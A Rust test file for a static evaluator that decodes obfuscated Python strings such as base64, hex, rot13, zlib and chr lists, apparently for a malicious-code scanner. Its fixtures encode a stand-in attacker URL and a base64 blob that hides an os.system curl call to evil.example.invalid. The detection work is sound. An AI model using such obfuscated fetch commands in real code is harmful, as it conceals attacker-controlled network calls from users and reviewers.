//! End-to-end tests of the evaluator: Python source in, folded value out.

use super::*;
use ruff_python_ast::{PySourceType, Stmt};

fn fold_src(src: &str) -> Option<Folded> {
    let parsed = ruff_python_parser::parse_unchecked_source(src, PySourceType::Python);
    let mut aliases = HashMap::default();
    let mut consts = HashMap::default();
    let mut last = None;
    for stmt in &parsed.syntax().body {
        match stmt {
            Stmt::Import(i) => {
                for a in &i.names {
                    let local = a.asname.as_ref().unwrap_or(&a.name).to_string();
                    aliases.insert(local, a.name.to_string());
                }
            }
            Stmt::ImportFrom(i) => {
                for a in &i.names {
                    let local = a.asname.as_ref().unwrap_or(&a.name).to_string();
                    let m = i.module.as_ref().map(|m| m.to_string()).unwrap_or_default();
                    aliases.insert(local, format!("{m}.{}", a.name));
                }
            }
            Stmt::Assign(a) => {
                let env = Env {
                    aliases: &aliases,
                    consts: &consts,
                    binding: None,
                };
                if let (Some(Expr::Name(n)), Some(v)) = (a.targets.first(), env.fold(&a.value)) {
                    consts.insert(n.id.to_string(), v);
                }
            }
            Stmt::Expr(e) => {
                let env = Env {
                    aliases: &aliases,
                    consts: &consts,
                    binding: None,
                };
                last = env.fold(&e.value);
            }
            _ => {}
        }
    }
    last
}

fn text(src: &str) -> String {
    fold_src(src)
        .and_then(|f| f.value.text())
        .unwrap_or_default()
}

#[test]
fn folds_base64_and_chains() {
    assert_eq!(
        text(
            "import base64\nbase64.b64decode('aHR0cHM6Ly9ldmlsLmV4YW1wbGUuaW52YWxpZC9w').decode()"
        ),
        "https://evil.example.invalid/p"
    );
    assert_eq!(
        text("from base64 import b64decode as d\nx = 'aHR0cHM6Ly9'\ny = x + 'ldmlsLmV4YW1wbGUuaW52YWxpZC9w'\nd(y)"),
        "https://evil.example.invalid/p"
    );
    let f = fold_src("import base64\nbase64.b64decode('aGk=')").unwrap();
    assert!(f.obfuscated);
    assert_eq!(f.via, Some("base64"));
}

#[test]
fn folds_chr_hex_rot13_reverse_zlib() {
    assert_eq!(text("''.join(chr(c) for c in [104, 105])"), "hi");
    assert_eq!(text("''.join(map(chr, [104, 105]))"), "hi");
    assert_eq!(text("''.join([chr(x ^ 1) for x in [105, 104]])"), "hi");
    assert_eq!(text("bytes.fromhex('6869').decode()"), "hi");
    assert_eq!(text("import binascii\nbinascii.unhexlify(b'6869')"), "hi");
    assert_eq!(
        text("import codecs\ncodecs.decode('uggc', 'rot13')"),
        "http"
    );
    assert_eq!(text("'lave'[::-1]"), "eval");
    assert_eq!(text("''.join(chr(c) for c in [49,57,50,46,48])"), "192.0");
    assert_eq!(text("bytes([104, 105]).decode()"), "hi");
    assert_eq!(text("'%s://%s' % ('http', 'x')"), "http://x");
    assert_eq!(text("f'ab' 'cd'"), "abcd");
    // zlib.compress(b"print(1)") then base64
    assert_eq!(
        text("import zlib, base64\nzlib.decompress(base64.b64decode('eJwrKMrMK9Ew1AQADhUCsA=='))"),
        "print(1)"
    );
    assert_eq!(text("import base64\nbase64.b32decode('NBUQ====')"), "hi");
    assert_eq!(text("import base64\nbase64.b85decode('Xk~0{Zv')"), "hello");
}

#[test]
fn refuses_non_constants_and_bombs() {
    assert!(fold_src("import base64\nbase64.b64decode(x)").is_none());
    assert!(fold_src("'a' * 100000000").is_none());
    assert!(fold_src("''.join(names)").is_none());
    let plain = fold_src("'http://' + 'x'").unwrap();
    assert!(!plain.obfuscated);
}

#[test]
fn blobs() {
    let (t, via) =
        decode_blob("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovL2V2aWwuZXhhbXBsZS5pbnZhbGlkJyk=")
            .unwrap();
    assert_eq!(via, "base64");
    assert!(t.contains("os.system"));
    assert!(decode_blob("this is just a long sentence of english words, nothing more").is_none());
    assert!(decode_blob("abcdefghijabcdefghijabcdefghijabcdefghij").is_none());
}
